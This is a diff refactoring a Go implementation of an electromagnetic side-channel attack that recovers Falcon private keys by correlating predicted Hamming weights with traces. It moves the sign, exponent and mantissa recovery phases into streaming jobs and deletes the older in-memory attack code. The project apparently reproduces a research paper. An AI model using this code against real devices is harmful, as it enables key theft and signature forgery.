@@ -26,22 +26,19 @@
 // integer polynomial f; g follows from the public key as g = h·f mod q;
 // F, G are recomputed with the NTRU solver; and the resulting key signs
 // arbitrary messages — the full break demonstrated by the paper.
+//
+// Campaigns are consumed either as in-memory slices ([]emleak.Observation)
+// or as streamed tracestore.Source corpora that never fit in RAM; both
+// drive the same accumulator jobs (jobs.go) and produce identical results.
 package core
 
 import (
 	"errors"
-	"fmt"
-	"math"
-	"math/bits"
-	"runtime"
-	"sort"
-	"sync"
 
 	"falcondown/internal/cpa"
 	"falcondown/internal/emleak"
 	"falcondown/internal/fft"
 	"falcondown/internal/fpr"
-	"falcondown/internal/ntru"
 )
 
 // Part selects which half of a complex FFT coefficient is under attack.
@@ -160,6 +157,12 @@ func (m magnitude) abs() fpr.FPR {
 	return fpr.FPR(uint64(m.biasedExp)<<52 | m.mant)
 }
 
+// assembleMant recombines the pruned halves into the 52 stored bits
+// (dropping the implicit leading one).
+func assembleMant(d, c uint64) uint64 {
+	return (c<<loBits | d) & ((uint64(1) << 52) - 1)
+}
+
 // attackMagnitude recovers exponent and mantissa (everything except the
 // sign) of one secret value.
 func attackMagnitude(obs []emleak.Observation, coeff int, part Part, cfg Config) magnitude {
@@ -174,11 +177,10 @@ func attackMagnitude(obs []emleak.Observation, coeff int, part Part, cfg Config)
 			escalated = true
 		}
 	}
-	mant := (c<<loBits | d) & ((uint64(1) << 52) - 1) // drop the implicit bit
 	return magnitude{
 		biasedExp: biasedExp,
 		expAlts:   expAlts,
-		mant:      mant,
+		mant:      assembleMant(d, c),
 		expCorr:   expCorr,
 		pruneCorr: pruneCorr,
 		gap:       gap,
@@ -190,7 +192,9 @@ func attackMagnitude(obs []emleak.Observation, coeff int, part Part, cfg Config)
 func mantissa(obs []emleak.Observation, coeff int, part Part, cfg Config) (d, c uint64, corr, gap float64) {
 	dCands := extendHalf(obs, coeff, part, loBits, false, cfg)
 	cCands := extendHalf(obs, coeff, part, hiBits, true, cfg)
-	return prune(obs, coeff, part, dCands, cCands, cfg)
+	j := newPruneJob(coeff, part, dCands, cCands)
+	feedSlice(obs, j)
+	return j.result()
 }
 
 // AttackValue recovers the secret FPR at (coeff, part) from the campaign,
@@ -257,95 +261,17 @@ func AttackCoefficient(obs []emleak.Observation, coeff int, cfg Config) (fft.Cpl
 // positive correlation peak; the wrong one is its mirror image (the
 // symmetry the paper notes in Fig. 4e).
 func attackSign(obs []emleak.Observation, coeff int, part Part) (sign int, corr float64) {
-	slots := part.mulSlots()
-	engines := [2]*cpa.Engine{cpa.NewEngine(2), cpa.NewEngine(2)}
-	h := make([]float64, 2)
-	for _, o := range obs {
-		for w, slot := range slots {
-			sc := knownFor(slot, o.CFFT[coeff]).Sign()
-			h[0] = float64(sc)
-			h[1] = float64(sc ^ 1)
-			t := o.Trace.Samples[emleak.SampleIndex(coeff, slot, int(fpr.OpMulSign))]
-			engines[w].Update(h, t)
-		}
-	}
-	var score [2]float64
-	for _, e := range engines {
-		r := e.Corr()
-		score[0] += r[0] / 2
-		score[1] += r[1] / 2
-	}
-	if score[1] > score[0] {
-		return 1, score[1]
-	}
-	return 0, score[0]
+	j := newSignJob(coeff, part)
+	feedSlice(obs, j)
+	return j.result()
 }
 
-// attackSignJoint resolves the two sign bits of a complex coefficient by
-// replaying the complex multiplication under all four sign hypotheses
-// (magnitudes already recovered) and correlating the predicted Hamming
-// weights of every sign-dependent micro-op — the four sign-XOR slots plus
-// the subtraction and addition that combine the four real products. The
-// combine stage depends on both signs through operand alignment and
-// cancellation patterns, so it discriminates even when the known operand
-// signs never vary.
+// attackSignJoint resolves the two sign bits of a complex coefficient
+// through the four-hypothesis replay attack (see jointSignJob).
 func attackSignJoint(obs []emleak.Observation, coeff int, absRe, absIm fpr.FPR) (sRe, sIm int, corr float64) {
-	// Candidate secrets under the four hypotheses.
-	var cands [4]fft.Cplx
-	for i := 0; i < 4; i++ {
-		re := absRe
-		im := absIm
-		if i&1 == 1 {
-			re = fpr.Neg(re)
-		}
-		if i&2 == 2 {
-			im = fpr.Neg(im)
-		}
-		cands[i] = fft.Cplx{Re: re, Im: im}
-	}
-	// Sign-dependent samples within the coefficient window: the four
-	// OpMulSign slots and the 12 samples of the two combine additions.
-	var sampleOffsets []int
-	for m := 0; m < emleak.MulsPerCoeff; m++ {
-		sampleOffsets = append(sampleOffsets, m*emleak.OpsPerMul+int(fpr.OpMulSign))
-	}
-	for s := emleak.MulsPerCoeff * emleak.OpsPerMul; s < emleak.SamplesPerCoeff; s++ {
-		sampleOffsets = append(sampleOffsets, s)
-	}
-	eng := cpa.NewMatrixEngine(4, len(sampleOffsets))
-	base := coeff * emleak.SamplesPerCoeff
-	var rec fpr.SliceRecorder
-	hs := make([]float64, 4*len(sampleOffsets))
-	t := make([]float64, len(sampleOffsets))
-	for _, o := range obs {
-		for i, cand := range cands {
-			rec.Reset()
-			fft.MulTraced(o.CFFT[coeff], cand, &rec)
-			if rec.Len() != emleak.SamplesPerCoeff {
-				// Degenerate replay (zero operand); predict flat.
-				for j := range sampleOffsets {
-					hs[i*len(sampleOffsets)+j] = 0
-				}
-				continue
-			}
-			for j, off := range sampleOffsets {
-				hs[i*len(sampleOffsets)+j] = float64(bits.OnesCount64(rec.Values[off]))
-			}
-		}
-		for j, off := range sampleOffsets {
-			t[j] = o.Trace.Samples[base+off]
-		}
-		eng.Update(hs, t)
-	}
-	// Score: mean correlation across sign-dependent samples.
-	score := eng.MeanScore()
-	best, bestScore := 0, math.Inf(-1)
-	for i := 0; i < 4; i++ {
-		if score[i] > bestScore {
-			best, bestScore = i, score[i]
-		}
-	}
-	return best & 1, best >> 1, bestScore
+	j := newJointSignJob(coeff, absRe, absIm)
+	feedSlice(obs, j)
+	return j.result()
 }
 
 // attackExponent guesses the 11-bit biased exponent of the secret operand
@@ -361,63 +287,11 @@ func attackSignJoint(obs []emleak.Observation, coeff int, absRe, absIm fpr.FPR) 
 // ties sit ≥ 16–32 apart in practice (hashed-message exponents span a few
 // powers of two), while the feasible exponents of FFT(f) coefficients
 // concentrate around 1023 + log2(√(n/2)·σ_{f,g}); exact ties are broken
-// toward that magnitude prior.
+// toward that magnitude prior (see expJob.result).
 func attackExponent(obs []emleak.Observation, coeff int, part Part) (biasedExp int, corr float64, alts []int) {
-	const nHyp = 2047 // biased exponents 1..2046 plus index 0 unused
-	slots := part.mulSlots()
-	engines := [2]*cpa.Engine{cpa.NewEngine(nHyp), cpa.NewEngine(nHyp)}
-	h := make([]float64, nHyp)
-	for _, o := range obs {
-		for w, slot := range slots {
-			bec := knownFor(slot, o.CFFT[coeff]).BiasedExp()
-			for hyp := 1; hyp < nHyp; hyp++ {
-				h[hyp] = float64(bits.OnesCount64(uint64(bec + hyp - 1023)))
-			}
-			t := o.Trace.Samples[emleak.SampleIndex(coeff, slot, int(fpr.OpMulExp))]
-			engines[w].Update(h, t)
-		}
-	}
-	r := make([]float64, nHyp)
-	for _, e := range engines {
-		for i, v := range e.Corr() {
-			r[i] += v / 2
-		}
-	}
-	best := cpa.TopK(r, 1)[0]
-	n := 2 * len(obs[0].CFFT)
-	prior := 1023 + int(math.Round(math.Log2(math.Sqrt(float64(n)/2)*ntru.SigmaFG(n))))
-	// The degeneracy family of the winner: hypotheses offset by multiples
-	// of 8 (the smallest power of two that can exceed a hashed-message
-	// component's exponent spread) whose correlation is statistically
-	// indistinguishable from the winner's. Exact ties match to ~1e-15;
-	// near-ties (support crossing a carry boundary in a handful of traces)
-	// can even beat the truth by noise, so the acceptance band is a small
-	// correlation margin. Equal prior distances break toward correlation.
-	const tieStep = 8
-	const tieMargin = 0.05
-	pick, pickDist := best.Index, abs(best.Index-prior)
-	family := []int{best.Index}
-	for hyp := 1; hyp < nHyp; hyp++ {
-		if hyp == best.Index || (hyp-best.Index)%tieStep != 0 || best.Corr-r[hyp] > tieMargin {
-			continue
-		}
-		family = append(family, hyp)
-		if d := abs(hyp - prior); d < pickDist || (d == pickDist && r[hyp] > r[pick]) {
-			pick, pickDist = hyp, d
-		}
-	}
-	alts = make([]int, 0, len(family)-1)
-	for _, hyp := range family {
-		if hyp != pick {
-			alts = append(alts, hyp)
-		}
-	}
-	// Most plausible alternatives first, so the error-correction pass in
-	// RecoverKey repairs quickly.
-	sort.Slice(alts, func(i, j int) bool {
-		return abs(alts[i]-prior) < abs(alts[j]-prior)
-	})
-	return pick, r[pick], alts
+	j := newExpJob(coeff, part)
+	feedSlice(obs, j)
+	return j.result(2 * len(obs[0].CFFT))
 }
 
 func abs(v int) int {
@@ -433,255 +307,16 @@ type candidate struct {
 	corr  float64
 }
 
-// extendHalf is the extend phase: a windowed correlation attack on the
-// schoolbook partial products involving the chosen secret half (B×D and
-// A×D for the low half; B×C and A×C for the high half, in both
-// multiplication windows), growing the guessed width from the least
-// significant bits and carrying the TopK survivors. The low w bits of a
-// product depend only on the low w bits of the secret half, which is what
-// makes the incremental search sound; the full-width ranking retains the
-// shift-related false positives that the prune phase later removes.
+// extendHalf runs the extend phase over an in-memory campaign (one pass
+// per round; see extendState).
 func extendHalf(obs []emleak.Observation, coeff int, part Part, width int, high bool, cfg Config) []candidate {
-	slots := part.mulSlots()
-	// Partial products touching this half: (op, use-high-known-half).
-	type target struct {
-		op     fpr.Op
-		useHi  bool
-		window int
+	s := newExtendState(coeff, part, width, high, cfg)
+	for !s.done() {
+		j := s.beginRound()
+		feedSlice(obs, j)
+		s.endRound()
 	}
-	var targets []target
-	for _, w := range slots {
-		if high {
-			targets = append(targets,
-				target{fpr.OpMulLH, false, w}, target{fpr.OpMulHH, true, w})
-		} else {
-			targets = append(targets,
-				target{fpr.OpMulLL, false, w}, target{fpr.OpMulHL, true, w})
-		}
-	}
-	cands := []candidate{{value: 0}}
-	for low := 0; low < width; low += cfg.Window {
-		w := cfg.Window
-		if low+w > width {
-			w = width - low
-		}
-		k := uint(low + w)
-		mask := (uint64(1) << k) - 1
-		// Expand every candidate by all values of the new window.
-		next := make([]uint64, 0, len(cands)<<w)
-		seen := make(map[uint64]bool, len(cands)<<w)
-		for _, c := range cands {
-			for v := uint64(0); v < 1<<w; v++ {
-				nv := c.value | v<<low
-				if !seen[nv] {
-					seen[nv] = true
-					next = append(next, nv)
-				}
-			}
-		}
-		if high && low+w == width {
-			// The high half carries the implicit leading one.
-			filtered := next[:0]
-			for _, v := range next {
-				if v>>(width-1) == 1 {
-					filtered = append(filtered, v)
-				}
-			}
-			next = filtered
-		}
-		engines := make([]*cpa.Engine, len(targets))
-		for i := range engines {
-			engines[i] = cpa.NewEngine(len(next))
-		}
-		h := make([]float64, len(next))
-		for _, o := range obs {
-			for ti, tg := range targets {
-				known := knownFor(tg.window, o.CFFT[coeff])
-				a, b := known.MantissaHalves()
-				kn := b
-				if tg.useHi {
-					kn = a
-				}
-				for i, v := range next {
-					h[i] = float64(bits.OnesCount64((kn * v) & mask))
-				}
-				engines[ti].Update(h, o.Trace.Samples[emleak.SampleIndex(coeff, tg.window, int(tg.op))])
-			}
-		}
-		score := make([]float64, len(next))
-		for _, e := range engines {
-			for i, r := range e.Corr() {
-				score[i] += r / float64(len(engines))
-			}
-		}
-		top := cpa.TopK(score, cfg.TopK)
-		cands = cands[:0]
-		for _, g := range top {
-			cands = append(cands, candidate{value: next[g.Index], corr: g.Corr})
-		}
-	}
-	return cands
-}
-
-// prune is the prune phase: every surviving (D, C) pair is scored against
-// the intermediate additions mid = lh+hl, sum1 = mid+(ll>>25) and
-// sum2 = hh+(sum1>>25) in both windows, whose values the adversary can
-// predict exactly from the known operand halves. Addition mixes the
-// unrelated operand into each candidate's prediction, so the
-// multiplicative shift ties break and only the true pair correlates at
-// every addition.
-func prune(obs []emleak.Observation, coeff int, part Part, dCands, cCands []candidate, cfg Config) (d, c uint64, corr, gap float64) {
-	slots := part.mulSlots()
-	type pair struct{ d, c uint64 }
-	pairs := make([]pair, 0, len(dCands)*len(cCands))
-	for _, dc := range dCands {
-		for _, cc := range cCands {
-			pairs = append(pairs, pair{dc.value, cc.value})
-		}
-	}
-	ops := []fpr.Op{fpr.OpMulMid, fpr.OpMulSum1, fpr.OpMulSum2}
-	nEng := len(ops) * len(slots)
-	engines := make([]*cpa.Engine, nEng)
-	for i := range engines {
-		engines[i] = cpa.NewEngine(len(pairs))
-	}
-	h := make([][]float64, nEng)
-	for i := range h {
-		h[i] = make([]float64, len(pairs))
-	}
-	for _, o := range obs {
-		for wi, slot := range slots {
-			known := knownFor(slot, o.CFFT[coeff])
-			a, b := known.MantissaHalves()
-			for i, p := range pairs {
-				ll := b * p.d
-				hl := a * p.d
-				lh := b * p.c
-				hh := a * p.c
-				mid := lh + hl
-				sum1 := mid + (ll >> loBits)
-				sum2 := hh + (sum1 >> loBits)
-				h[wi*len(ops)+0][i] = float64(bits.OnesCount64(mid))
-				h[wi*len(ops)+1][i] = float64(bits.OnesCount64(sum1))
-				h[wi*len(ops)+2][i] = float64(bits.OnesCount64(sum2))
-			}
-			for oi, op := range ops {
-				engines[wi*len(ops)+oi].Update(h[wi*len(ops)+oi],
-					o.Trace.Samples[emleak.SampleIndex(coeff, slot, int(op))])
-			}
-		}
-	}
-	// Combined score: the mean correlation across additions and windows.
-	score := make([]float64, len(pairs))
-	for _, e := range engines {
-		for i, r := range e.Corr() {
-			score[i] += r / float64(nEng)
-		}
-	}
-	ranked := cpa.Rank(score)
-	best := ranked[0]
-	gap = 1.0
-	if len(ranked) > 1 {
-		gap = best.Corr - ranked[1].Corr
-	}
-	return pairs[best.Index].d, pairs[best.Index].c, best.Corr, gap
-}
-
-// AttackFFTf recovers the full FFT(f) vector (all real and imaginary
-// parts) from the campaign. After the first pass, values whose prune
-// correlation falls far below the campaign's median (a reliable signature
-// of the extend phase having dropped the true prefix) are re-attacked
-// with a much larger candidate beam.
-func AttackFFTf(obs []emleak.Observation, cfg Config) ([]fft.Cplx, []ValueResult, error) {
-	cfg = cfg.withDefaults()
-	if len(obs) == 0 {
-		return nil, nil, errNoTraces
-	}
-	half := len(obs[0].CFFT)
-	out := make([]fft.Cplx, half)
-	results := make([]ValueResult, 2*half)
-	// Coefficients are attacked independently (each reads its own trace
-	// window and uses no shared randomness), so fan the first pass out
-	// across cores; results stay deterministic.
-	var (
-		wg       sync.WaitGroup
-		firstErr error
-		errOnce  sync.Once
-	)
-	sem := make(chan struct{}, runtime.GOMAXPROCS(0))
-	for k := 0; k < half; k++ {
-		wg.Add(1)
-		go func(k int) {
-			defer wg.Done()
-			sem <- struct{}{}
-			defer func() { <-sem }()
-			z, res, err := AttackCoefficient(obs, k, cfg)
-			if err != nil {
-				errOnce.Do(func() { firstErr = fmt.Errorf("core: coefficient %d: %w", k, err) })
-				return
-			}
-			out[k] = z
-			results[2*k] = res[0]
-			results[2*k+1] = res[1]
-		}(k)
-	}
-	wg.Wait()
-	if firstErr != nil {
-		return nil, nil, firstErr
-	}
-	med := medianPrune(results)
-	retry := cfg
-	retry.TopK = maxTopK
-	retry.EscalateBelow = -1 // beam already maximal; no inner escalation
-	for k := 0; k < half; k++ {
-		for p, part := range []Part{PartRe, PartIm} {
-			r := results[2*k+p]
-			if r.PruneCorr >= 0.8*med {
-				continue
-			}
-			mag := attackMagnitude(obs, k, part, retry)
-			if mag.pruneCorr <= r.PruneCorr {
-				continue
-			}
-			old := out[k]
-			sRe, sIm := old.Re.Sign(), old.Im.Sign()
-			if part == PartRe {
-				out[k].Re = fpr.FPR(uint64(sRe)<<63) | mag.abs()
-			} else {
-				out[k].Im = fpr.FPR(uint64(sIm)<<63) | mag.abs()
-			}
-			// Redo the joint sign attack with the corrected magnitudes.
-			absRe := fpr.Abs(out[k].Re)
-			absIm := fpr.Abs(out[k].Im)
-			s0, s1, signCorr := attackSignJoint(obs, k, absRe, absIm)
-			out[k].Re = fpr.FPR(uint64(s0)<<63) | absRe
-			out[k].Im = fpr.FPR(uint64(s1)<<63) | absIm
-			r.Value = out[k].Re
-			if part == PartIm {
-				r.Value = out[k].Im
-			}
-			r.PruneCorr = mag.pruneCorr
-			r.RunnerUpGap = mag.gap
-			r.SignCorr = signCorr
-			r.Escalated = true
-			results[2*k+p] = r
-		}
-	}
-	return out, results, nil
-}
-
-// medianPrune returns the median prune correlation across values.
-func medianPrune(results []ValueResult) float64 {
-	vals := make([]float64, len(results))
-	for i, r := range results {
-		vals[i] = r.PruneCorr
-	}
-	for i := 1; i < len(vals); i++ {
-		for j := i; j > 0 && vals[j] < vals[j-1]; j-- {
-			vals[j], vals[j-1] = vals[j-1], vals[j]
-		}
-	}
-	return vals[len(vals)/2]
+	return s.cands
 }
 
 // PrimaryWindow exposes the part's primary multiplication window index
